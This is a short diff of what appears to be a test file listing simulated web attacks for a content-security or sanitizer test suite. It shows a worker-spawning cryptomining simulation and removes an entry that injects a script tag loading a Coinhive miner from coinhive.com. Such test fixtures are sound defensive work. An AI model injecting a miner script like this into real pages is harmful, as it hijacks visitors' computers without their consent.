@@ -100,11 +100,4 @@ export const taking: Attack[] = [
         `var b = URL.createObjectURL(new Blob(['setTimeout(() => { postMessage(1) }, 350)'])); for (var i = 0; i < 8; i++) { var w = new Worker(b); w.onmessage = function () { top.sensed('miner') } }`,
       ),
   },
-  {
-    name: 'loads a known miner',
-    threatClass: 'cryptomining',
-    harm: 'request',
-    ways: ['write'],
-    markup: ({ id }) => `<p>Shoes</p><script src="http://coinhive.com/lib/${id}.js"></script>`,
-  },
 ]
